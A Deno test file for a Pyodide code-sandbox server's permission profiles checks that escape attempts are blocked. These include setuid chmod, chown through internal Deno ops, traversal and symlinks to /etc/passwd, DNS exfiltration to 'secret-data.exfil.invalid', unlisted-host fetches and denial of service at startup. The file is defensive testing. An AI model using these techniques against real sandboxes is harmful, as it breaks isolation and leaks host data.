/**
 * Profiles that grant access: a read-write workspace, read-only data, a host allowlist, and the
 * path tricks that must not get past them.
 */
import assert from "node:assert/strict";
import { loadProfiles } from "../src/config/config.ts";
import { delay, startServer, writeConfig } from "./_helpers.ts";
import { pathExists } from "../src/_util/path_exists.ts";

async function setUp(httpPort: number) {
  const root = Deno.realPathSync(await Deno.makeTempDir());
  for (const dir of ["permissions", "ws", "data"]) await Deno.mkdir(`${root}/${dir}`);
  await Deno.writeTextFile(`${root}/data/facts.txt`, "read-only facts");
  const profile = (name: string, body: unknown) =>
    Deno.writeTextFile(`${root}/permissions/${name}.json`, JSON.stringify(body));
  await profile("default", {});
  await profile("workspace", {
    extends: "default",
    folders: [{ host: "../ws", mount: "/workspace", mode: "rw" }],
  });
  await profile("data", {
    extends: "default",
    folders: [{ host: "../data", mount: "/data", mode: "ro" }],
  });
  await profile("network", {
    extends: "default",
    net: [`127.0.0.1:${httpPort}`],
    limits: { timeout_s: 20 },
  });
  const config = await writeConfig(root, {
    settings: { pool_size: 1, permissions_dir: `${root}/permissions` },
  });
  return { root, config };
}

Deno.test("profiles grant exactly their folders and hosts", async (t) => {
  let hits = 0;
  await using http = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
    hits++;
    return Response.json({ greeting: "hello from loopback" });
  });
  const { root, config } = await setUp(http.addr.port);
  await using server = await startServer({ args: ["--config", config] });

  await t.step(
    "workspace: files written in one run are there in the next, and on the host",
    async () => {
      const first = await server.execute({
        profile: "workspace",
        code:
          "open('/workspace/notes.txt', 'w').write('kept')\nimport os\nos.listdir('/workspace')",
      });
      assert.equal(first.success, true, first.text);
      assert.deepEqual(first.result, ["notes.txt"]);
      const second = await server.execute({
        profile: "workspace",
        code: "open('/workspace/notes.txt').read()",
      });
      assert.equal(second.result, "kept");
      assert.equal(await Deno.readTextFile(`${root}/ws/notes.txt`), "kept");
      const chmod = await server.execute({
        profile: "workspace",
        code: [
          "import os, js, pyodide_js",
          "os.chmod('/workspace/notes.txt', 0o777)",
          "os.mkdir('/workspace/sub')",
          "open('/workspace/run_as_me', 'w').write('#!/bin/sh')",
          "os.chmod('/workspace/run_as_me', 0o6755)",
          "host = pyodide_js.FS.lookupPath('/workspace').node.mount.opts.root",
          // While the run lasts too, not only once the host has looked after it.
          "[js.Deno.statSync(host + p).mode & 0o7777 for p in ('/notes.txt', '/sub', '/run_as_me')]",
        ].join("\n"),
      });
      assert.equal(chmod.success, true, chmod.text);
      assert.deepEqual(chmod.result, [0o755, 0o755, 0o755], "masked as Python writes them");
      // Nothing a script writes becomes group- or world-writable on the host.
      for (const path of [`${root}/ws/notes.txt`, `${root}/ws/sub`]) {
        assert.equal((await Deno.stat(path)).mode! & 0o022, 0, path);
      }
      // Not through Deno either, which the folder's write permission lets a script call; a
      // mode a person gave a file before the run stays.
      await Deno.writeTextFile(`${root}/ws/shared.txt`, "theirs");
      await Deno.chmod(`${root}/ws/shared.txt`, 0o666);
      await delay(2100); // changes in the second before a run count as the run's
      const viaDeno = await server.execute({
        profile: "workspace",
        code: [
          "import js, pyodide_js",
          "host = pyodide_js.FS.lookupPath('/workspace').node.mount.opts.root",
          "js.Deno.writeTextFileSync(host + '/mine.txt', 'x', mode=0o777)",
          "js.Deno.chmodSync(host + '/notes.txt', 0o777)",
          "js.Deno.mkdirSync(host + '/open', mode=0o777)",
          "js.Deno.chmodSync(host + '/open', 0o777)",
          // A setuid program of the server's user, for whoever runs it.
          "js.Deno.chmodSync(host + '/run_as_me', 0o6777)",
          "js.Deno.chmodSync(host + '/open', 0o1777)",
        ].join("\n"),
      });
      assert.equal(viaDeno.success, true, viaDeno.text);
      for (const name of ["mine.txt", "notes.txt", "open", "run_as_me"]) {
        assert.equal(
          (await Deno.stat(`${root}/ws/${name}`)).mode! & 0o7022,
          0,
          name + server.stderr().slice(-2000),
        );
      }
      assert.equal((await Deno.stat(`${root}/ws/shared.txt`)).mode! & 0o777, 0o666);
      // A server running as root would let a script give a folder away (chown, which the
      // write permission allows): the other user could plant a symlink there that later
      // scripts follow. Every way to it is gone; the host would take it back besides.
      const me = (await Deno.stat(`${root}/ws/shared.txt`)).uid;
      const given = await server.execute({
        profile: "workspace",
        code: [
          "import js, pyodide_js",
          "host = pyodide_js.FS.lookupPath('/workspace').node.mount.opts.root",
          "js.Deno.mkdirSync(host + '/given')",
          "path = host + '/given'",
          "fs = js.process.getBuiltinModule('node:fs')",
          "internal = js.Reflect.get(js.Deno, js.Deno.internal)",
          "tries = {",
          "  'Deno.chownSync': lambda: js.Deno.chownSync(path, 65534, 65534),",
          "  'Deno.chown': lambda: js.Deno.chown(path, 65534, 65534),",
          "  'fs.chownSync': lambda: fs.chownSync(path, 65534, 65534),",
          "  'fs.lchownSync': lambda: fs.lchownSync(path, 65534, 65534),",
          "  'internal ops': lambda: internal.core.ops.op_fs_chown_sync(path, 65534, 65534),",
          "}",
          "said = {}",
          "for name, call in tries.items():",
          "    try:",
          "        call()",
          "        said[name] = 'done'",
          "    except Exception as e:",
          "        said[name] = type(e).__name__",
          "try:",
          "    await fs.promises.chown(path, 65534, 65534)",
          "    said['fs.promises.chown'] = 'done'",
          "except Exception as e:",
          "    said['fs.promises.chown'] = type(e).__name__",
          "js.Deno.writeTextFileSync(path + '/f', 'x')",
          "handle = await fs.promises.open(path + '/f', 'r')",
          "try:",
          "    await handle.chown(65534, 65534)",
          "    said['FileHandle.chown'] = 'done'",
          "except Exception as e:",
          "    said['FileHandle.chown'] = type(e).__name__",
          "await handle.close()",
          "[said, js.Deno.statSync(path).uid]",
        ].join("\n"),
      });
      assert.equal(given.success, true, given.text);
      const [said, uid] = given.result as [Record<string, string>, number];
      assert.equal(Object.keys(said).length, 7, JSON.stringify(said));
      for (const [way, outcome] of Object.entries(said)) {
        assert.notEqual(outcome, "done", `${way} changed the owner`);
      }
      assert.equal(uid, me, "the folder is still the server's user's");
      assert.equal((await Deno.stat(`${root}/ws/given`)).uid, me);
      // Another way may still be found: the host gives back what changed owner in a run.
      await Deno.mkdir(`${root}/ws/midrun`);
      // The owner changes while the script runs, for sure: the script says it has started and
      // waits to hear the change is made (a fixed delay lost the race to a slow sandbox start,
      // and the change then predated the run).
      const running = server.execute({
        profile: "workspace",
        code: [
          "import os, time",
          "open('/workspace/started', 'w').close()",
          "for _ in range(600):",
          "    if os.path.exists('/workspace/changed'):",
          "        break",
          "    time.sleep(0.05)",
        ].join("\n"),
      });
      for (let i = 0; i < 600 && !(await pathExists(`${root}/ws/started`)); i++) await delay(50);
      if (me === 0) await Deno.chown(`${root}/ws/midrun`, 65534, 65534); // as the run's doing
      await Deno.writeTextFile(`${root}/ws/changed`, "");
      assert.equal((await running).success, true);
      assert.equal((await Deno.stat(`${root}/ws/midrun`)).uid, me, "given back when the run ended");
      const isolated = await server.execute({
        code: "import os\nos.path.exists('/workspace/notes.txt')",
      });
      assert.equal(isolated.result, false, "the default profile does not see the workspace");
    },
  );

  await t.step("an agent can read what each profile grants in execute_code's schema", async () => {
    const { tools } = await server.client.listTools();
    const schema = tools.find((tool: { name: string }) => tool.name === "execute_code")!
      .inputSchema as { properties: { profile: { description: string } } };
    const said = schema.properties.profile.description;
    assert.match(said, /^workspace: .*folders \/workspace \(read-write\)/m, said);
    assert.match(said, /^default: .*no host folders/m, said);
  });

  await t.step("workspace: an output too large to return is left in the workspace", async () => {
    const r = await server.execute({
      profile: "workspace",
      code:
        "open('outputs/big.bin', 'wb').write(b'x' * (3 * 1024 * 1024))\nopen('outputs/small.txt', 'w').write('ok')",
    });
    assert.equal(r.success, true, r.text);
    const big = r.outputs.find((o) => o.name === "big.bin")!;
    assert.equal(big.saved_to, "/workspace/outputs/big.bin");
    assert.equal(big.saved_on_host, `${root}/ws/outputs/big.bin`);
    assert.equal((await Deno.stat(`${root}/ws/outputs/big.bin`)).size, 3 * 1024 * 1024);
    assert.match(r.text, /too large to return: saved at \/workspace\/outputs\/big\.bin/);
  });

  await t.step("data: readable, and writing raises PermissionError", async () => {
    const r = await server.execute({
      profile: "data",
      code: [
        "text = open('/data/facts.txt').read()",
        "try:",
        "    open('/data/facts.txt', 'w').write('changed')",
        "    outcome = 'written'",
        "except PermissionError:",
        "    outcome = 'refused'",
        "[text, outcome]",
      ].join("\n"),
    });
    assert.deepEqual(r.result, ["read-only facts", "refused"], r.text);
    assert.equal(await Deno.readTextFile(`${root}/data/facts.txt`), "read-only facts");
    // Uncaught, the error names what refused it (its errno, Emscripten's EACCES, is 2).
    const uncaught = await server.execute({
      profile: "data",
      code: "open('/data/facts.txt', 'w').write('changed')",
    });
    assert.equal(uncaught.diagnostics?.error_type, "PermissionError");
    assert.match(uncaught.diagnostics!.message, /not granted by this sandbox's permission profile/);
  });

  await t.step("paths cannot climb out of a mount or link out of it", async () => {
    const r = await server.execute({
      profile: "workspace",
      code: [
        "import os",
        "out = []",
        "for attempt in ['/workspace/../../etc/passwd', '/workspace/../' + 'etc/hostname']:",
        "    try:",
        "        open(attempt).read(); out.append('read')",
        "    except OSError as e:",
        "        out.append(type(e).__name__)",
        "try:",
        "    os.symlink('/etc/passwd', '/workspace/link'); out.append('linked')",
        "except OSError as e:",
        "    out.append(type(e).__name__)",
        "out",
      ].join("\n"),
    });
    assert.equal(r.success, true, r.text);
    assert.deepEqual(r.result, ["FileNotFoundError", "FileNotFoundError", "PermissionError"]);
    assert.throws(() => Deno.lstatSync(`${root}/ws/link`));
  });

  await t.step(
    "network: the listed host answers pyfetch and js.fetch; others are refused",
    async () => {
      const url = `http://127.0.0.1:${http.addr.port}/`;
      const r = await server.execute({
        profile: "network",
        code: [
          "import js",
          "from pyodide.http import pyfetch",
          `a = await (await pyfetch('${url}')).json()`,
          `b = await (await js.fetch('${url}')).text()`,
          "refused = []",
          `for other in ['http://localhost:${http.addr.port}/', 'http://127.0.0.1:${
            http.addr.port + 1
          }/', 'http://[::1]:${http.addr.port}/']:`,
          "    try:",
          "        await js.fetch(other)",
          "    except Exception as e:",
          "        refused.append('NotCapable' in str(e) or 'net access' in str(e))",
          // A DNS query names what it carries to whoever serves the zone: refused too.
          "try:",
          "    await js.Deno.resolveDns('secret-data.exfil.invalid', 'A')",
          "except Exception as e:",
          "    refused.append('NotCapable' in str(e))",
          "[a['greeting'], b, refused]",
        ].join("\n"),
      });
      assert.equal(r.success, true, r.text);
      assert.deepEqual(r.result, ["hello from loopback", '{"greeting":"hello from loopback"}', [
        true,
        true,
        true,
        true,
      ]]);
      assert.equal(hits, 2);
      const denied = await server.execute({ code: `import js\nawait js.fetch('${url}')` });
      assert.equal(denied.success, false);
      assert.equal(hits, 2);
    },
  );

  await Deno.remove(root, { recursive: true });
});

Deno.test("loadProfiles() follows extends and refuses bad bases, cycles and escaping symlinks", async (t) => {
  const dir = Deno.realPathSync(await Deno.makeTempDir());
  await Deno.mkdir(`${dir}/p`);
  await Deno.mkdir(`${dir}/shared`);
  const write = (name: string, body: unknown) =>
    Deno.writeTextFile(`${dir}/p/${name}.json`, JSON.stringify(body));
  await write("base", { limits: { timeout_s: 10, memory_mb: 256 }, allowed_tools: ["fs.*"] });
  await write("child", { extends: "base", limits: { timeout_s: 20 } });
  await t.step("a child keeps its base's fields and merges limits", async () => {
    const profiles = await loadProfiles(`${dir}/p`, []);
    const child = profiles.get("child")!;
    assert.equal(child.limits.timeout_s, 20);
    assert.equal(child.limits.memory_mb, 256);
    assert.deepEqual(child.allowed_tools, ["fs.*"]);
  });
  await t.step("an unknown base", async () => {
    await write("orphan", { extends: "ghost" });
    await assert.rejects(
      loadProfiles(`${dir}/p`, []),
      /profile "orphan", field "extends": no profile "ghost"/,
    );
    await Deno.remove(`${dir}/p/orphan.json`);
  });
  await t.step("a cycle", async () => {
    await write("a", { extends: "b" });
    await write("b", { extends: "a" });
    await assert.rejects(loadProfiles(`${dir}/p`, []), /a cycle \(a -> b -> a\)/);
    await Deno.remove(`${dir}/p/a.json`);
    await Deno.remove(`${dir}/p/b.json`);
  });
  await t.step("a folder holding a symlink that leads outside it", async () => {
    await Deno.symlink("/etc/passwd", `${dir}/shared/innocent.txt`);
    await write("leaky", { folders: [{ host: "../shared", mount: "/s" }] });
    await assert.rejects(
      loadProfiles(`${dir}/p`, []),
      /innocent\.txt, a link that may lead outside the folder/,
    );
  });
  await Deno.remove(dir, { recursive: true });
});

Deno.test("what a script leaves in a read-write folder cannot stop the next start", async () => {
  // An attacker's corpus: a script filled its read-write folder past what the start can check
  // (hard links between its own files were the other way, fixed in findEscapingLink), and the
  // next start refused the whole server. Now only that profile is unavailable, and says why.
  const root = Deno.realPathSync(await Deno.makeTempDir());
  for (const dir of ["permissions", "ws"]) await Deno.mkdir(`${root}/${dir}`);
  await Deno.writeTextFile(`${root}/permissions/default.json`, "{}");
  await Deno.writeTextFile(
    `${root}/permissions/workspace.json`,
    JSON.stringify({ folders: [{ host: "../ws", mount: "/workspace", mode: "rw" }] }),
  );
  const config = await writeConfig(root, {
    settings: { pool_size: 1, permissions_dir: "permissions" },
  });
  {
    await using server = await startServer({ args: ["--config", config] });
    const filled = await server.execute({
      profile: "workspace",
      timeout_s: 120,
      code: "for i in range(20_001):\n    open(f'/workspace/f{i}', 'w').close()\n'filled'",
    });
    assert.equal(filled.result, "filled", filled.text);
  }
  await using server = await startServer({ args: ["--config", config] });
  const refused = await server.execute({ profile: "workspace", code: "1" });
  assert.equal(refused.diagnostics?.error_type, "POLICY_VIOLATION");
  assert.match(
    refused.diagnostics!.message,
    /^Profile "workspace" is unavailable: .*more than 20000 entries, too many to check/,
  );
  assert.equal((await server.execute({ code: "6 * 7" })).result, 42, "the default profile works");
  assert.match(server.stderr(), /profile "workspace" is unavailable/);
  await Deno.remove(root, { recursive: true });
});

Deno.test("a script that removes another profile's folder cannot stop the next start", async () => {
  // "shared" may write /data; "reports" reads /data/reports. A script under "shared" removed
  // that folder, and the next start refused the whole server for the missing folder.
  const root = Deno.realPathSync(await Deno.makeTempDir());
  for (const dir of ["permissions", "data/reports"]) {
    await Deno.mkdir(`${root}/${dir}`, { recursive: true });
  }
  await Deno.writeTextFile(`${root}/permissions/default.json`, "{}");
  await Deno.writeTextFile(
    `${root}/permissions/shared.json`,
    JSON.stringify({ folders: [{ host: "../data", mount: "/data", mode: "rw" }] }),
  );
  await Deno.writeTextFile(
    `${root}/permissions/reports.json`,
    JSON.stringify({ folders: [{ host: "../data/reports", mount: "/reports", mode: "ro" }] }),
  );
  const config = await writeConfig(root, {
    settings: { pool_size: 1, permissions_dir: "permissions" },
  });
  {
    await using server = await startServer({ args: ["--config", config] });
    const removed = await server.execute({
      profile: "shared",
      code: "import os\nos.rmdir('/data/reports')\nos.listdir('/data')",
    });
    assert.deepEqual(removed.result, [], removed.text);
  }
  await using server = await startServer({ args: ["--config", config] });
  const refused = await server.execute({ profile: "reports", code: "1" });
  assert.equal(refused.diagnostics?.error_type, "POLICY_VIOLATION", refused.text);
  assert.match(refused.diagnostics!.message, /^Profile "reports" is unavailable: .*does not exist/);
  assert.equal((await server.execute({ code: "6 * 7" })).result, 42, "the default profile works");
  assert.equal((await server.execute({ profile: "shared", code: "1 + 1" })).result, 2);
  await Deno.remove(root, { recursive: true });
});
